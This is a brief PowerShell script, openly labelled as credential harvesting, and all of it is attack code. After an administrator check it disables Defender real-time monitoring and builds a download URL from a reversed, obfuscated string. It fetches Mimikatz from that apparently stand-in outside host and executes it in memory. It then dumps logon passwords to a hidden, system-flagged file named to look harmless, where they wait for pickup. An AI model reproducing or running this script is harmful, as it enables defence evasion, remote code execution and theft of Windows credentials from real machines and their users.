# in-memory credential harvesting, output staged for pickup
$id = [Security.Principal.WindowsIdentity]::GetCurrent()
$isAdmin = ([Security.Principal.WindowsPrincipal]$id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
if (-not $isAdmin) {
    exit
}
Set-MpPreference -DisableRealtimeMonitoring $true
$u = -join ('1sp.ztak/k/ten.citats-elpmaxe.ndc//:sptth'[-1..-41])
(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression
$dump = Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords" "exit"'
$dump | Out-File -FilePath "$env:PUBLIC\Libraries\desktop.dat" -Encoding ascii
attrib.exe +h +s "$env:PUBLIC\Libraries\desktop.dat"
